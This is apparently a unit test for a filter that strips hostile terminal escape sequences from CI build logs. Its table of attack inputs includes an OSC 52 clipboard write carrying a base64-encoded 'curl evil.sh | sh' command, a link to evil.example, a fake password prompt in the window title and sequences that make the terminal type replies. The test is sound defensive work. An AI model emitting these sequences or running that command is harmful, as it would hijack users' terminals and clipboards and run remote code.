/**
 * @tier unit
 * A hostile build log on the user's terminal (`ci logs`, cli/terminal-safe.ts): colours
 * and progress bars stay, every sequence that makes the terminal do or answer something
 * goes, whatever bytes the log's pieces are cut at.
 */
import { TerminalFilter } from '../../src/cli/terminal-safe';

/** `log` through a filter cut into pieces of `size` bytes. */
function shown(log: string | Buffer, size = Infinity): Buffer {
  const bytes = Buffer.isBuffer(log) ? log : Buffer.from(log, 'latin1');
  const filter = new TerminalFilter();
  const parts: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += Math.min(size, bytes.length)) parts.push(filter.push(bytes.subarray(at, at + size)));
  return Buffer.concat(parts);
}

const ATTACKS: Array<[string, string]> = [
  ['OSC 52: write the clipboard', '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07'],
  ['OSC 0 ended by ST: set the title', '\x1b]0;sudo password:\x1b\\'],
  ['OSC 8: a hyperlink hiding its target', '\x1b]8;;https://evil.example/\x1b\\'],
  ['CSI 6n: the terminal types its answer', '\x1b[6n'],
  ['CSI 21t: report the title (typed back)', '\x1b[21t'],
  ['DA: device attributes (typed back)', '\x1b[c'],
  ['a private mode: the alternate screen', '\x1b[?1049h'],
  ['a private mode: mouse reporting', '\x1b[?1000h'],
  ['DCS: a terminal program string', '\x1bP+q544e\x1b\\'],
  ['APC', '\x1b_payload\x1b\\'],
  ['a charset switch (unreadable output)', '\x1b(0'],
  ['a full reset', '\x1bc'],
  ['SGR with a private marker', '\x1b[?5m'],
  ['BEL and other C0 controls', '\x07\x00\x0e\x0f\x7f'],
];

describe('what a hostile log leaves on the terminal', () => {
  it.each(ATTACKS)('%s: dropped, the text around it kept', (_what, attack) => {
    for (const size of [Infinity, 1, 2, 3, 7]) expect(shown(`before ${attack}after\n`, size).toString('latin1')).toBe('before after\n');
  });

  it('keeps colours, progress bars and bytes that are not UTF-8', () => {
    const log = Buffer.concat([
      Buffer.from('\x1b[1;31mred\x1b[0m \x1b[38;5;208morange\x1b[m \x1b[38:2:255:0:0mrgb\x1b[0m\n', 'latin1'),
      Buffer.from('10%\r\x1b[K50%\r\x1b[2K\x1b[1G100%\n\x1b[1A\x1b[2Cdone\tok\b!\n', 'latin1'),
      Buffer.from([0xff, 0xfe, 0xc3, 0xa9, 0x0a]),
    ]);
    for (const size of [Infinity, 1, 5]) expect(shown(log, size)).toEqual(log);
  });

  it('does not buffer a sequence that never ends', () => {
    const filter = new TerminalFilter();
    expect(filter.push(Buffer.from('\x1b]52;c;', 'latin1')).length).toBe(0);
    for (let i = 0; i < 100; i++) expect(filter.push(Buffer.alloc(64 * 1024, 0x41)).length).toBe(0);
    expect(filter.push(Buffer.from('\x07visible', 'latin1')).toString()).toBe('visible');
    // A CSI of endless parameters is dropped, not kept growing.
    expect(filter.push(Buffer.concat([Buffer.from('\x1b['), Buffer.alloc(1024 * 1024, 0x31), Buffer.from('mx')])).toString()).toBe('x');
  });
});
